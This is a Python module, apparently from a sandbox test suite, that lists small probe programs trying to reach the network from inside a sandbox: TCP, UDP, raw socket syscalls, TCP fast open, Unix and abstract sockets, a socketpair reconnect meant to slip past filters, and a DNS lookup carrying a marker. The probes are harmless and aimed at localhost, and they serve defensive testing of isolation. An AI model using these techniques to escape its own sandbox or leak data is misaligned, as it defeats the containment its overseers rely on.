"""Words to the outside: sockets of every family, and the name server."""

from __future__ import annotations

from llmzoo.sandbox.attacks.attack import Harm

ATTACKS = (
    Harm(
        name="tcp",
        about="connects to a listener on this machine",
        program="""
import socket
socket.create_connection(("127.0.0.1", PORT), 1).sendall(b"hello")
""",
    ),
    Harm(
        name="udp",
        about="sends a datagram without connecting",
        program="""
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("127.0.0.1", UDP_PORT))
""",
    ),
    Harm(
        name="tcp-by-libc",
        about="connects by system calls alone",
        program="""
import ctypes, struct
libc = ctypes.CDLL(None)
s = libc.syscall(41, 2, 1, 0)
libc.syscall(42, s, struct.pack("=HHI8x", 2, (PORT >> 8) | (PORT & 255) << 8, 0x0100007F), 16)
""",
    ),
    Harm(
        name="tcp-fast-open",
        about="sends data with the first packet, without a call to connect",
        program="""
import socket
s = socket.socket()
s.sendto(b"hello", 0x20000000, ("127.0.0.1", PORT))
""",
    ),
    Harm(
        name="unix-socket",
        about="connects to a socket in /tmp",
        program="""
import socket
socket.socket(socket.AF_UNIX).connect(SOCKET)
""",
    ),
    Harm(
        name="abstract-socket",
        about="connects to a socket that has no file",
        program="""
import socket
socket.socket(socket.AF_UNIX).connect(ABSTRACT)
""",
    ),
    Harm(
        name="unix-socket-from-a-pair",
        about="reconnects an end of a pair, where only pairs may be made",
        program="""
import ctypes, socket, struct
libc = ctypes.CDLL(None)
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    try:
        here, there = socket.socketpair(socket.AF_UNIX, kind)
    except OSError:
        continue
    libc.connect(here.fileno(), struct.pack("=H2x", 0), 2)
    for address in (SOCKET, ABSTRACT):
        try:
            here.connect(address)
        except OSError as error:
            print(error)
""",
        note="the kernel refuses to reconnect a stream; it guards filters that allow pairs",
    ),
    Harm(
        name="name-server",
        about="asks for a name that says something",
        program="""
import socket
socket.setdefaulttimeout(1)
try:
    socket.getaddrinfo(f"{MARK}.example.com", 80)
except OSError as error:
    print(error)
""",
    ),
    Harm(
        name="asyncio-connection",
        about="connects through asyncio and urllib",
        program="""
import asyncio
async def main():
    _, writer = await asyncio.open_connection("127.0.0.1", PORT)
    writer.write(b"hello")
try:
    asyncio.run(main())
except OSError:
    import urllib.request
    urllib.request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=0.3)
""",
    ),
)
